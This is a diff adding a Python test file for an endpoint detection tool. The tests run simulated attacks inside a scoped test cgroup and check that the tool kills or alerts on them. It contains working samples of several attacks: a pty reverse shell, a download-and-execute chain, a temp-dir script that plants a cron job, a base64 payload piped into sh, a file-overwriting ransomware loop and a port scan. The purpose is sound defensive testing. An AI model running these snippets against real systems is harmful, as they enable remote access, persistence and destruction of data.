@@ -1,0 +1,306 @@
+"""Stop by default (issue 15): attacks on the host kernel, in a scoped test cgroup.
+
+The live sensor is scoped to the test's cgroup, the behaviour pack runs with
+the default settings (armed) and the dispatcher takes its responses, so a
+kill can only land on the test's own processes.  Every attack here was missed
+(or only reported) before the provenance model and must now be stopped:
+
+* python ``pty.spawn`` reverse shell (socket -> pty -> shell);
+* a binary fetched by a script from the network into a temp dir, then run;
+* a ``#!/bin/sh`` script in a temp dir writing a cron job (in a private mount
+  namespace with a tmpfs over /etc/cron.d: nothing of the host is touched);
+  the same write by a shell of no untrusted provenance is alerted, not killed;
+* a base64-decoded payload piped into a shell;
+* ransomware outside the data directories (the test's temp dir);
+* a port scan (refused connects to many distinct loopback ports) is alerted.
+"""
+
+from __future__ import annotations
+
+import base64
+import http.server
+import os
+import shutil
+import signal
+import socket
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+from contextlib import contextmanager
+from pathlib import Path
+from typing import Any, Iterator
+
+from bastion.detect.behavior import behavior_rules, live_probes
+from bastion.detect.engine import Engine, RuleContext
+from bastion.proctable import ProcessTable
+from bastion.respond.dispatch import Dispatcher
+from bastion.sensors.bpf import BpfSensor
+from support.cg import scoped_cgroup
+
+
+def spawn_in(cg: Path, argv: list[str], **kw: Any) -> subprocess.Popen[bytes]:
+    shell = f'echo $$ > {cg}/cgroup.procs && exec "$@"'
+    return subprocess.Popen(["/bin/sh", "-c", shell, "sh", *argv], **kw)
+
+
+class Watch:
+    """The sensor (scoped to ``cg``), the default pack and the dispatcher, on a thread."""
+
+    def __init__(self, cgid: int) -> None:
+        self.sensor = BpfSensor(cgroup_id=cgid)
+        self.procs = ProcessTable()
+        self.engine = Engine(behavior_rules(probes=live_probes()))
+        self.disp = Dispatcher(self.procs)
+        self.alerts: list[dict[str, Any]] = []
+        self._stop = threading.Event()
+        self._t = threading.Thread(target=self._run, daemon=True)
+
+    def _run(self) -> None:
+        ctx = RuleContext(self.procs)
+        while not self._stop.is_set():
+            for ev in self.sensor.poll(0.01) or []:
+                self.procs.update(ev)
+                ev = self.procs.enrich(ev)
+                for f in self.engine.evaluate(ev, ctx):
+                    self.alerts.append(self.disp.dispatch(f, time.time_ns()).to_json())
+
+    def wait_for(self, pred: Any, timeout: float = 10.0) -> list[dict[str, Any]]:
+        deadline = time.monotonic() + timeout
+        while time.monotonic() < deadline:
+            got = [a for a in list(self.alerts) if pred(a)]
+            if got:
+                return got
+            time.sleep(0.05)
+        return []
+
+
+@contextmanager
+def watching() -> Iterator[tuple[Path, Watch]]:
+    with scoped_cgroup() as (cg, cgid):
+        w = Watch(cgid)
+        w.sensor.open()
+        w._t.start()
+        try:
+            yield cg, w
+        finally:
+            w._stop.set()
+            w._t.join(5)
+            w.sensor.close()
+            assert not w.engine.errors, w.engine.disabled
+
+
+def blocked(a: dict[str, Any]) -> bool:
+    return a["action"] in ("kill", "kill-tree", "quarantine")
+
+
+def reap(p: subprocess.Popen[bytes], timeout: float = 10) -> int:
+    try:
+        return p.wait(timeout)
+    finally:
+        if p.poll() is None:
+            p.kill()
+            p.wait()
+
+
+PTY_REVSHELL = ("import os, pty, socket, sys\n"
+                "s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\n"
+                "[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\n"
+                "pty.spawn('/bin/sh')\n")
+
+
+def test_pty_spawn_reverse_shell_is_killed() -> None:
+    lst = socket.socket()
+    lst.bind(("127.0.0.1", 0))
+    lst.listen(1)
+    conn = None
+    try:
+        with watching() as (cg, w):
+            p = spawn_in(cg, [sys.executable, "-c", PTY_REVSHELL, str(lst.getsockname()[1])])
+            lst.settimeout(10)
+            conn, _ = lst.accept()
+            got = w.wait_for(lambda a: blocked(a) and a["rule"] == "behavior.pty_socket_shell")
+            assert got, [(a["rule"], a["action"]) for a in w.alerts]
+            assert got[0]["severity"] == "critical" and got[0]["evidence"].get("prevented")
+            assert reap(p) == -signal.SIGKILL
+    finally:
+        if conn is not None:
+            conn.close()
+        lst.close()
+
+
+FETCH = ("import sys, urllib.request\n"
+         "data = urllib.request.urlopen(sys.argv[1]).read()\n"
+         "open(sys.argv[2], 'wb').write(data)\n")
+
+
+@contextmanager
+def http_serving(root: Path) -> Iterator[int]:
+    class H(http.server.SimpleHTTPRequestHandler):
+        def __init__(self, *a: Any, **k: Any) -> None:
+            super().__init__(*a, directory=str(root), **k)
+
+        def log_message(self, *a: Any) -> None:
+            pass
+
+    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
+    t = threading.Thread(target=srv.serve_forever, daemon=True)
+    t.start()
+    try:
+        yield srv.server_address[1]
+    finally:
+        srv.shutdown()
+        srv.server_close()
+
+
+def test_binary_fetched_into_tmp_is_killed_at_exec() -> None:
+    served = Path(tempfile.mkdtemp(prefix="bastion-test-srv-"))
+    drop = Path(tempfile.mkdtemp(prefix="bastion-test-drop-", dir="/tmp"))
+    try:
+        shutil.copy("/bin/sleep", served / "payload")
+        with http_serving(served) as port, watching() as (cg, w):
+            target = drop / "payload"
+            script = (f"{sys.executable} -c \"$0\" http://127.0.0.1:{port}/payload {target} && "
+                      f"chmod +x {target} && exec {target} 20")
+            p = spawn_in(cg, ["/bin/sh", "-c", script, FETCH])
+            rc = reap(p, 15)
+            got = [a for a in w.alerts if blocked(a) and a["rule"] == "behavior.download_execute"]
+            assert rc == -signal.SIGKILL, (rc, [(a["rule"], a["action"]) for a in w.alerts])
+            assert got and got[0]["evidence"].get("prevented")
+    finally:
+        shutil.rmtree(served)
+        shutil.rmtree(drop)
+
+
+def _cron_writer(cg: Path, script: Path) -> subprocess.Popen[bytes]:
+    """Run ``script`` in a private mount namespace whose /etc/cron.d is a tmpfs."""
+    inner = "mount -t tmpfs bastion-test /etc/cron.d && exec \"$0\" \"$@\""
+    return spawn_in(cg, ["unshare", "--mount", "--propagation", "private",
+                         "/bin/sh", "-c", inner, *([str(script)] if script.suffix == ".sh"
+                                                   else ["/bin/sh", "-c", script.read_text()])])
+
+
+def test_tmp_script_writing_a_cron_job_is_killed() -> None:
+    d = Path(tempfile.mkdtemp(prefix="bastion-test-pers-", dir="/tmp"))
+    try:
+        s = d / "evil.sh"
+        s.write_text("#!/bin/sh\nsleep 0.5\necho '* * * * * root /tmp/x' > /etc/cron.d/job\n"
+                     "sleep 5\necho survived\n")
+        s.chmod(0o755)
+        with watching() as (cg, w):
+            p = _cron_writer(cg, s)
+            rc = reap(p, 15)
+            got = [a for a in w.alerts if a["rule"] == "behavior.persistence_cron"]
+            assert got and blocked(got[0]), [(a["rule"], a["action"]) for a in w.alerts]
+            assert got[0]["severity"] == "critical"
+            assert "tmp-script" in got[0]["evidence"]["provenance"]
+            assert rc == -signal.SIGKILL
+    finally:
+        shutil.rmtree(d)
+
+
+def test_same_cron_write_without_untrusted_provenance_is_alerted_not_killed() -> None:
+    d = Path(tempfile.mkdtemp(prefix="bastion-test-pers-"))
+    try:
+        s = d / "admin.cmd"      # not a temp-dir script: run as `sh -c <text>`
+        s.write_text("echo '* * * * * root /bin/true' > /etc/cron.d/job; sleep 1; echo ok")
+        with watching() as (cg, w):
+            p = _cron_writer(cg, s)
+            assert reap(p, 15) == 0
+            got = w.wait_for(lambda a: a["rule"] == "behavior.persistence_cron", 3)
+            assert got and got[0]["action"] == "alert" and got[0]["severity"] == "high"
+    finally:
+        shutil.rmtree(d)
+
+
+def test_decoded_payload_into_a_shell_is_killed() -> None:
+    d = Path(tempfile.mkdtemp(prefix="bastion-test-b64-"))
+    try:
+        marker = d / "ran"
+        payload = base64.b64encode(f"sleep 1; touch {marker}\n".encode()).decode()
+        with watching() as (cg, w):
+            p = spawn_in(cg, ["/bin/sh", "-c", f"echo {payload} | base64 -d | sh"])
+            reap(p, 15)
+            got = [a for a in w.alerts if a["rule"] == "behavior.decoded_payload_shell"]
+            assert got and blocked(got[0]), [(a["rule"], a["action"]) for a in w.alerts]
+            assert not marker.exists()
+    finally:
+        shutil.rmtree(d)
+
+
+RANSOM = ("import os, sys\n"
+          "root = sys.argv[1]\n"
+          "for n in sorted(os.listdir(root)):\n"
+          "    p = os.path.join(root, n)\n"
+          "    data = open(p, 'rb').read()\n"
+          "    with open(p, 'r+b') as f:\n"
+          "        f.write(os.urandom(len(data)))\n"
+          "    os.rename(p, p + '.locked')\n"
+          "    __import__('time').sleep(0.02)\n")
+
+
+def test_ransomware_outside_the_data_directories_is_killed() -> None:
+    d = Path(tempfile.mkdtemp(prefix="bastion-test-ransom-", dir="/var/tmp"))
+    try:
+        for i in range(200):
+            (d / f"doc{i:03}.txt").write_text(f"quarterly report {i}\n" * 400)
+        with watching() as (cg, w):
+            p = spawn_in(cg, [sys.executable, "-c", RANSOM, str(d)])
+            rc = reap(p, 30)
+            got = [a for a in w.alerts if a["rule"] == "behavior.ransomware"]
+            assert got and got[0]["action"] == "kill-tree", [(a["rule"], a["action"]) for a in w.alerts]
+            assert rc == -signal.SIGKILL
+            assert len(list(d.glob("*.locked"))) < 200
+    finally:
+        shutil.rmtree(d)
+
+
+SCAN = ("import socket\n"
+        "for port in range(1, 400):\n"
+        "    s = socket.socket(); s.settimeout(0.2)\n"
+        "    try: s.connect(('127.0.0.1', 40000 + port))\n"
+        "    except OSError: pass\n"
+        "    s.close()\n")
+
+
+def test_port_scan_is_alerted() -> None:
+    with watching() as (cg, w):
+        p = spawn_in(cg, [sys.executable, "-c", SCAN])
+        reap(p, 30)
+        got = w.wait_for(lambda a: a["rule"] == "behavior.port_scan", 5)
+        assert got and got[0]["severity"] in ("medium", "high", "critical")
+        assert got[0]["evidence"]["ports"] >= 25
+
+
+REWRITE = ("import os, sys, time\n"
+           "root = sys.argv[1]\n"
+           "for i in range(200):\n"
+           "    p = os.path.join(root, f'doc{i:03}.txt')\n"
+           "    open(p, 'w').write(f'quarterly report {i}\\n' * 400)\n"
+           "for i in range(200):\n"
+           "    p = os.path.join(root, f'doc{i:03}.txt')\n"
+           "    with open(p, 'r+b') as f:\n"
+           "        f.write(os.urandom(4096))\n"   # intermittent: the head only, no rename
+           "    time.sleep(0.02)\n")
+
+
+def test_ransomware_in_another_mount_namespace_is_judged_on_its_own_files() -> None:
+    """The tree encrypts in place, without renames, files that exist only in its mount
+    namespace (a tmpfs over a directory whose host copy holds plaintext at the same
+    paths).  The entropy probe must read the writer's files, not the host's."""
+    d = Path(tempfile.mkdtemp(prefix="bastion-test-mntns-", dir="/var/tmp"))
+    try:
+        for i in range(200):
+            (d / f"doc{i:03}.txt").write_text(f"quarterly report {i}\n" * 400)
+        with watching() as (cg, w):
+            inner = f'mount -t tmpfs bastion-test "{d}" && exec "$0" -c "$1" "$2"'
+            p = spawn_in(cg, ["unshare", "--mount", "--propagation", "private", "/bin/sh", "-c",
+                              inner, sys.executable, REWRITE, str(d)])
+            rc = reap(p, 40)
+            got = [a for a in w.alerts if a["rule"] == "behavior.ransomware"]
+            assert got and got[0]["action"] == "kill-tree", [(a["rule"], a["action"], a["title"])
+                                                             for a in w.alerts]
+            assert rc == -signal.SIGKILL
+    finally:
+        shutil.rmtree(d)
